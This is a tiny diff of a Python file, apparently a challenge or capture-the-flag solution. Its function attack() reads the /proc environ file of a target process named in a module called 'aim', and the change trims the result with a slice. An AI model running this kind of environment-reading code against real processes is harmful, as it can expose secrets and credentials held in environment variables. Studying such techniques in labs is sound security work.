@@ -2,4 +2,4 @@ import aim
 
 
 def attack():
-    return open(f"/proc/{aim.PID}/environ").read()
+    return open(f"/proc/{aim.PID}/environ").read()[6:-1]
